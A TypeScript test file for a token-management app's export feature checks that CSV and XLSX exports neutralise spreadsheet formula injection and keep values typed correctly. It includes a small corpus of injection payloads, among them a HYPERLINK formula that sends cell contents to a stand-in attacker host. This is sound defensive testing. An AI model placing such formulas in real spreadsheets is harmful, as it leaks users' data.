/**
 * Exports: the injection corpus neutralised in CSV and written as text (never formulas) in XLSX,
 * numbers and dates kept as numbers and dates, every page of Spirii with the tokens screen's
 * filters, progress and cancel, and the file a person chose written whole or not at all.
 * LibreOffice opens the CSV and the XLSX and finds the same values.
 */
import { readdirSync, readFileSync, existsSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import readXlsxFile from 'read-excel-file/node';
import { unzipSync, strFromU8 } from 'fflate';
import { Station } from '../../electron/core/station';
import { runExport, Cancelled, type ExportProgress } from '../../electron/core/io/export';
import { planImport } from '../../electron/core/io/import-plan';
import type { FilesProgress } from '../../electron/core/io/files';
import type { TokenCreate } from '../../electron/core/token';
import { tempDir } from '../support/temp';
import { tokenDraft, uidOf } from '../support/tokens';
import { DEFAULTS, libreOfficeCsv, ScriptedDialogs } from './support';

/** Text a spreadsheet must never run: OWASP's list, and the tricks around it. */
const INJECTION = ['=1+2', '+1', '-1', '@SUM(1)', '\t=1+2', '\r=1+2', '=HYPERLINK("http://evil.example/?x="&A1,"click")', 'a;=1', "'=1+2", 'say "hi", then; go', 'plain'];

/** A real UID can be all digits; a spreadsheet guessing types reads it as a number. */
const DIGITS_ONLY_UID = '04000000000009';

let dir: string;
let cleanup: () => void;
let station: Station;
let dialogs: ScriptedDialogs;

beforeAll(async () => {
  ({ dir, cleanup } = tempDir('token-station-export-'));
  dialogs = new ScriptedDialogs();
  station = await Station.create({ dataDir: path.join(dir, 'data'), dialogs, readers: { simulated: false }, sync: { autoStart: false } });
  // A tab or CR is refused in new text now, but rows written before that rule may hold them, and
  // the export must still neutralise them: such texts are written to the rows afterwards.
  const clean = (text: string) => text.replace(/[\t\r]/g, '');
  INJECTION.forEach((text, i) => {
    const comment = INJECTION[(i + 3) % INJECTION.length]!;
    const token = station.queue.add(
      tokenDraft(i === 0 ? DIGITS_ONLY_UID : `04A1${uidOf(i + 1).slice(4)}`, {
        label: clean(text),
        comment: clean(comment),
        billingReference: i % 2 ? clean(text) : null,
        customerId: 1001 + (i % 3),
        validFrom: '2026-01-31T08:30:00.000Z',
        expiresAt: i % 2 ? '2027-12-31T23:59:59.000Z' : null,
        isActive: i % 3 !== 0,
      }),
    );
    station.db
      .prepare('UPDATE tokens SET label = ?, comment = ?, billing_reference = ? WHERE id = ?')
      .run(text, comment, i % 2 ? text : null, token.id);
  });
});
afterAll(async () => {
  await station.close();
  cleanup();
});

const deps = () => ({ queue: station.queue, client: station.client });
// With the customer names (they take a request to Spirii: the test that uses them runs last, as
// LibreOffice's synchronous run would otherwise race an idle keep-alive socket of the next test).
const depsWithNames = () => ({ ...deps(), customers: station.customers });
const local = () => station.queue.list().reverse();

describe('exports', () => {
  it('CSV: every dangerous text gets one leading apostrophe; numbers and dates are left alone; re-import gives the same values', async () => {
    for (const csv of [{}, { delimiter: ';' as const, bom: true }]) {
      const file = path.join(dir, `local-${csv.delimiter === ';' ? 'semi' : 'comma'}.csv`);
      const result = await runExport(deps(), { source: 'local', format: 'csv', csv }, file);
      expect(result.rows).toBe(INJECTION.length);
      const text = readFileSync(file, 'utf8');
      expect(text.startsWith('\uFEFF')).toBe(csv.bom === true);
      const rows = parse(text, { bom: true, delimiter: csv.delimiter ?? ',', columns: true, relax_column_count: false }) as Record<string, string>[];
      for (const row of rows) {
        // No cell a spreadsheet would read as a formula: the first character is never = + - @ tab CR.
        for (const name of ['label', 'comment', 'billingReference']) expect(row[name]!).not.toMatch(/^[=+\-@\t\r]/);
        expect(row.customerId).toMatch(/^100[123]$/);
        expect(row.validFrom).toBe('2026-01-31T08:30:00.000Z');
      }
      expect(rows.map((r) => r.label)).toEqual(["'=1+2", "'+1", "'-1", "'@SUM(1)", "'\t=1+2", "'\r=1+2", `'=HYPERLINK("http://evil.example/?x="&A1,"click")`, 'a;=1', "''=1+2", 'say "hi", then; go', 'plain']);
      // "a;=1" is quoted even in a comma file: a spreadsheet splitting on ";" still sees one cell.
      expect(text).toContain('"a;=1"');
      // Numbers are written bare, not quoted as text.
      expect(text).toContain(`\r\n1${csv.delimiter ?? ','}"pending"`);

      const reimported = planImport(readFileSync(file), { defaults: DEFAULTS });
      expect(reimported.rows.map((r) => r.values)).toEqual(
        local().map((t) => ({
          uid: t.uid,
          label: t.label,
          customerId: t.customerId,
          validFrom: t.validFrom,
          expiresAt: t.expiresAt,
          isActive: t.isActive,
          roamingEnabled: t.roamingEnabled,
          priorityChargingEnabled: t.priorityChargingEnabled,
          billingReference: t.billingReference,
          comment: t.comment,
        })),
      );
    }
  });

  it('XLSX: text is text (no formula cell anywhere), numbers are numbers, dates are dates', async () => {
    const file = path.join(dir, 'local.xlsx');
    await runExport(deps(), { source: 'local', format: 'xlsx' }, file);
    const files = unzipSync(readFileSync(file));
    const sheet = strFromU8(files['xl/worksheets/sheet1.xml']!);
    expect(sheet).not.toMatch(/<f[ >]/);
    expect(sheet).not.toContain('t="str"'); // the type of a formula's cached result
    const cells = sheet.match(/<c [^>]*>/g)!;
    for (const cell of cells) expect(cell).toMatch(/t="inlineStr"|t="b"|^<c r="[A-Z]+\d+"( s="1")?>$/);

    const rows = await readXlsxFile(readFileSync(file), { trim: false });
    const header = rows[0] as string[];
    const col = (name: string) => header.indexOf(name);
    const data = rows.slice(1);
    expect(data.map((r) => r[col('label')])).toEqual(INJECTION);
    expect(data.map((r) => r[col('customerId')])).toEqual(local().map((t) => t.customerId));
    expect(data[0]![col('validFrom')]).toEqual(new Date('2026-01-31T08:30:00.000Z'));
    expect(data[1]![col('expiresAt')]).toEqual(new Date('2027-12-31T23:59:59.000Z'));
    // Booleans are boolean cells, and every row names its customer beside the number.
    expect(data.map((r) => r[col('isActive')])).toEqual(local().map((t) => t.isActive));
  });

  it('JSON: real numbers, booleans and ISO dates', async () => {
    const file = path.join(dir, 'local.json');
    await runExport(deps(), { source: 'local', format: 'json' }, file);
    const rows = JSON.parse(readFileSync(file, 'utf8')) as Record<string, unknown>[];
    expect(rows.map((r) => r.label)).toEqual(INJECTION);
    expect(rows[0]).toMatchObject({ customerId: 1001, isActive: false, validFrom: '2026-01-31T08:30:00.000Z', expiresAt: null, state: 'pending' });
  });

  it('LibreOffice opens the CSV and the XLSX and finds the same values, none of them run as a formula', async () => {
    const out = path.join(dir, 'lo');
    const csvFile = path.join(dir, 'lo-export.csv');
    const xlsxFile = path.join(dir, 'lo-export.xlsx');
    await runExport(deps(), { source: 'local', format: 'csv', csv: { bom: true } }, csvFile);
    await runExport(deps(), { source: 'local', format: 'xlsx' }, xlsxFile);

    const fromCsv = parse(libreOfficeCsv(csvFile, out), { columns: true }) as Record<string, string>[];
    const ours = parse(readFileSync(csvFile, 'utf8'), { bom: true, columns: true }) as Record<string, string>[];
    // '=1+2 stays '=1+2, not 3. (A spreadsheet keeps a line break as LF: a CR inside a cell comes back as LF.)
    const lf = (text: string | undefined) => text?.replace(/\r/g, '\n');
    expect(fromCsv.map((r) => lf(r.label))).toEqual(ours.map((r) => lf(r.label)));
    expect(fromCsv.map((r) => lf(r.comment))).toEqual(ours.map((r) => lf(r.comment)));
    expect(fromCsv.map((r) => r.customerId)).toEqual(ours.map((r) => r.customerId));
    // Known limit of CSV, and why the README points spreadsheet users to XLSX: LibreOffice (like
    // Excel) guesses an all-digit UID is a number and drops its leading zero. The CSV holds it right.
    expect(ours[0]!.uid).toBe(DIGITS_ONLY_UID);
    expect(fromCsv.map((r) => r.uid)).toEqual(ours.map((r) => (r.uid === DIGITS_ONLY_UID ? DIGITS_ONLY_UID.replace(/^0+/, '') : r.uid)));

    const fromXlsx = parse(libreOfficeCsv(xlsxFile, out), { columns: true }) as Record<string, string>[];
    expect(fromXlsx.map((r) => lf(r.label))).toEqual(INJECTION.map(lf));
    expect(fromXlsx.map((r) => r.customerId)).toEqual(local().map((t) => String(t.customerId)));
    expect(fromXlsx[0]!.validFrom).toBe('2026-01-31 08:30:00');
    // A spreadsheet reads real booleans (TRUE/FALSE), not the text "true"/"false".
    expect(fromXlsx.map((r) => r.isActive)).toEqual(local().map((t) => (t.isActive ? 'TRUE' : 'FALSE')));
    expect(fromXlsx.map((r) => r.uid)).toEqual(local().map((t) => t.uid)); // XLSX keeps the all-digit UID as text
  }, 120_000);

  it('Spirii: every page, with the tokens screen\'s filters, with progress; the file appears only when complete', async () => {
    const created: TokenCreate[] = Array.from({ length: 2500 }, (_, i) => ({
      customerId: i % 2 ? 1002 : 1003,
      identifier: { type: 'rfid', uid: (0x06000000 + i).toString(16).toUpperCase().padStart(8, '0'), label: `S-${i}` },
      isActive: i % 5 !== 0,
    }));
    for (let i = 0; i < created.length; i += 1000) await station.client.createTokens(created.slice(i, i + 1000));

    const progress: ExportProgress[] = [];
    const file = path.join(dir, 'spirii.csv');
    const result = await runExport(deps(), { source: 'spirii', format: 'csv', spiriiFilters: { customerId: 1003 } }, file, { onProgress: (p) => progress.push(p) });
    expect(result.rows).toBe(1250);
    const rows = parse(readFileSync(file), { columns: true }) as Record<string, string>[];
    expect(new Set(rows.map((r) => r.customerId))).toEqual(new Set(['1003']));
    expect(new Set(rows.map((r) => r.id)).size).toBe(1250);
    expect(progress.at(-1)).toEqual({ done: 1250, total: 1250 });
    expect(progress.filter((p) => p.total !== null).map((p) => p.done)).toEqual([1000, 1250]);

    const active = await runExport(deps(), { source: 'spirii', format: 'json', spiriiFilters: { customerId: 1002, isActive: false, sortBy: 'id', sortDirection: 'desc' } }, path.join(dir, 's.json'));
    const expected = created.filter((t) => t.customerId === 1002 && t.isActive === false).length;
    expect(active.rows).toBe(expected);
    const json = JSON.parse(readFileSync(path.join(dir, 's.json'), 'utf8')) as { id: number; isActive: boolean }[];
    expect(json.every((t) => t.isActive === false)).toBe(true);
    expect(json.map((t) => t.id)).toEqual([...json.map((t) => t.id)].sort((a, b) => b - a));
  }, 60_000);

  it('a cancelled export leaves no file, partial or whole', async () => {
    const target = path.join(dir, 'cancelled', 'x.xlsx');
    const { mkdirSync } = await import('node:fs');
    mkdirSync(path.dirname(target));
    const controller = new AbortController();
    const run = runExport(deps(), { source: 'spirii', format: 'xlsx' }, target, {
      signal: controller.signal,
      onProgress: (p) => {
        if (p.done > 0) controller.abort();
      },
    });
    await expect(run).rejects.toBeInstanceOf(Cancelled);
    expect(readdirSync(path.dirname(target))).toEqual([]);
  });

  it('through the station: the save dialog chooses the file, progress events carry the job, cancel stops it', async () => {
    const events: FilesProgress[] = [];
    const off = station.events.on('files', (p) => events.push(p));
    const target = path.join(dir, 'dialog.csv');
    dialogs.answer(target);
    const result = await station.files.exportTokens({ job: 'exp-1', source: 'spirii', format: 'csv', csv: { delimiter: ';', bom: true } });
    expect(dialogs.asked.at(-1)).toEqual({ kind: 'save', title: 'Export tokens', defaultName: expect.stringMatching(/^tokens-spirii-\d{4}-\d{2}-\d{2}\.csv$/) });
    expect(result).toMatchObject({ status: 'done', fileName: 'dialog.csv', rows: 2500, message: 'Exported 2500 tokens to dialog.csv.' });
    expect(existsSync(target)).toBe(true);
    expect(events.filter((e) => e.job === 'exp-1').at(-1)).toMatchObject({ phase: 'done', kind: 'export', fileName: 'dialog.csv' });

    dialogs.answer(null);
    expect(await station.files.exportTokens({ source: 'local', format: 'json' })).toEqual({ status: 'cancelled' });

    // Cancel while it runs: the sandbox answers slowly, so the job is still going.
    station.sandbox!.setFaults({ latencyMs: 300 });
    const cancelTarget = path.join(dir, 'dialog-cancel.xlsx');
    dialogs.answer(cancelTarget);
    const running = station.files.exportTokens({ job: 'exp-2', source: 'spirii', format: 'xlsx' });
    await expect.poll(() => events.some((e) => e.job === 'exp-2' && e.phase === 'running')).toBe(true);
    expect(station.files.cancel('exp-2')).toBe(true);
    expect(await running).toEqual({ status: 'cancelled' });
    station.sandbox!.setFaults({ latencyMs: 0 });
    expect(events.filter((e) => e.job === 'exp-2').at(-1)).toMatchObject({ phase: 'cancelled', message: 'Cancelled: nothing was written.' });
    expect(existsSync(cancelTarget)).toBe(false);
    expect(readdirSync(dir).filter((f) => f.endsWith('.part'))).toEqual([]);
    off();
  }, 30_000);

  it('names the customer beside its number in CSV, JSON and XLSX (read back with LibreOffice); the file name names the customer', async () => {
    const xlsxFile = path.join(dir, 'named.xlsx');
    const jsonFile = path.join(dir, 'named.json');
    const csvFile = path.join(dir, 'named.csv');
    await runExport(depsWithNames(), { source: 'local', format: 'json' }, jsonFile);
    await runExport(depsWithNames(), { source: 'local', format: 'csv' }, csvFile);
    await runExport(depsWithNames(), { source: 'local', format: 'xlsx' }, xlsxFile);
    const json = JSON.parse(readFileSync(jsonFile, 'utf8')) as Record<string, unknown>[];
    expect(json[0]).toMatchObject({ customerId: 1001, customerName: 'Acme Fleet ApS' });
    const csv = parse(readFileSync(csvFile, 'utf8'), { bom: true, columns: true }) as Record<string, string>[];
    expect(csv[0]).toMatchObject({ customerId: '1001', customerName: 'Acme Fleet ApS' });
    const fromXlsx = parse(libreOfficeCsv(xlsxFile, path.join(dir, 'lo-named')), { columns: true }) as Record<string, string>[];
    const NAMES: Record<number, string> = { 1001: 'Acme Fleet ApS', 1002: 'Nordlys Taxi A/S', 1003: 'Fjordhavn Kommune', 1004: 'Bornholm Elbiler ApS', 1005: 'Skagen Logistik A/S', 1006: 'Øresund Delebiler AB' };
    expect(fromXlsx.map((r) => `${r.customerId} ${r.customerName}`)).toEqual(local().map((t) => `${t.customerId} ${NAMES[t.customerId]}`));

    const named = path.join(dir, 'named-spirii.csv');
    dialogs.answer(named);
    await station.files.exportTokens({ source: 'spirii', format: 'xlsx', spiriiFilters: { customerId: 1006, isActive: true } });
    expect(dialogs.asked.at(-1)!.defaultName).toMatch(/^tokens-spirii-1006-oresund-delebiler-ab-active-\d{4}-\d{2}-\d{2}\.xlsx$/);
  }, 120_000);

  it('writes headers for people when asked (XLSX read back with LibreOffice), the API names otherwise, and JSON keys always the API names', async () => {
    const xlsxFile = path.join(dir, 'human.xlsx');
    const csvFile = path.join(dir, 'human.csv');
    const apiFile = path.join(dir, 'api.csv');
    const jsonFile = path.join(dir, 'human.json');
    await runExport(depsWithNames(), { source: 'local', format: 'xlsx', headers: 'human' }, xlsxFile);
    await runExport(depsWithNames(), { source: 'local', format: 'csv', headers: 'human' }, csvFile);
    await runExport(depsWithNames(), { source: 'local', format: 'csv', headers: 'api' }, apiFile);
    await runExport(depsWithNames(), { source: 'local', format: 'json', headers: 'human' }, jsonFile);
    const HUMAN = ['Queue id', 'State', 'UID', 'Label', 'Customer number', 'Customer name', 'Valid from', 'Expires', 'Active', 'Roaming', 'Priority charging', 'Billing reference', 'Comment', 'Spirii id', 'Last error', 'Source', 'Created', 'Updated', 'Synced'];
    const fromXlsx = parse(libreOfficeCsv(xlsxFile, path.join(dir, 'lo-human')), { columns: true }) as Record<string, string>[];
    expect(Object.keys(fromXlsx[0]!)).toEqual(HUMAN);
    expect(fromXlsx.map((r) => r.UID)).toEqual(local().map((t) => t.uid));
    // Booleans stay boolean cells under a header for people.
    expect(fromXlsx.map((r) => r.Active)).toEqual(local().map((t) => (t.isActive ? 'TRUE' : 'FALSE')));
    expect(fromXlsx[0]!['Customer name']).toBe('Acme Fleet ApS');
    const csv = parse(readFileSync(csvFile, 'utf8'), { bom: true, columns: true }) as Record<string, string>[];
    expect(Object.keys(csv[0]!)).toEqual(HUMAN);
    const api = parse(readFileSync(apiFile, 'utf8'), { bom: true, columns: true }) as Record<string, string>[];
    expect(Object.keys(api[0]!).slice(0, 6)).toEqual(['id', 'state', 'uid', 'label', 'customerId', 'customerName']);
    expect(Object.keys((JSON.parse(readFileSync(jsonFile, 'utf8')) as Record<string, unknown>[])[0]!).slice(0, 5)).toEqual(['id', 'state', 'uid', 'label', 'customerId']);
  }, 120_000);
});
